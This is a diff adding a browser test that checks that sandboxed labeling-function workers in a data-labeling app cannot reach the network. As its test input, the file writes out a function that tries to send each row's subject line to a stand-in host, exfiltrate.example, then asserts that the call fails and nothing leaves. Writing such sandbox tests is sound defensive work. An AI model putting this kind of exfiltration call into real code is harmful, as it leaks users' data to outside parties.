@@ -1,0 +1,45 @@
+/**
+ * An LF cannot send data out: its worker has no network APIs (src/workers/lockdown.ts). A code
+ * LF that tries to fetch gets an error on that LF, no request is made, and LFs still read their
+ * rows from IndexedDB (the starter LFs run to completion in the same locked-down workers).
+ */
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { browserSuite, Harness } from './harness.ts';
+
+browserSuite('LF workers are locked down', () => {
+  const h = new Harness();
+  h.screenshotOnFailure();
+  beforeAll(async () => {
+    await h.start();
+  });
+  afterAll(async () => {
+    await h.close();
+  });
+
+  it('a code LF that calls fetch fails on that LF and sends nothing', async () => {
+    const page = h.page;
+    await h.goto();
+    await page.getByTestId('load-demo').click();
+    await page.getByTestId('dataset-ready').waitFor({ state: 'visible' });
+    await h.goto('#/lfs');
+    const lfRow = (name: string) => page.locator(`[data-testid="lf-row"][data-lf-name="${name}"]`);
+    // The starter LFs read their chunks from IndexedDB inside locked-down workers.
+    await lfRow('money_words').getByText(/% coverage/).waitFor({ timeout: 60_000 });
+
+    await page.getByTestId('lf-new').click();
+    await page.getByTestId('lf-name').fill('phones_home');
+    await page.getByTestId('lf-kind').selectOption('code');
+    const code = page.getByTestId('lf-code');
+    await code.click();
+    await page.keyboard.press('Control+A');
+    await page.keyboard.press('Delete');
+    await code.fill("(x) => { fetch('https://exfiltrate.example/?s=' + encodeURIComponent(x.subject)); return null; }");
+    await page.getByTestId('lf-save').click();
+    const error = lfRow('phones_home').getByTestId('lf-error');
+    await error.waitFor({ timeout: 60_000 });
+    expect(await error.textContent()).toMatch(/fetch/);
+    await h.shot('lockdown-lf-error');
+    expect(h.requests.some((r) => r.url.includes('exfiltrate.example'))).toBe(false);
+    h.assertNoEgress();
+  });
+});
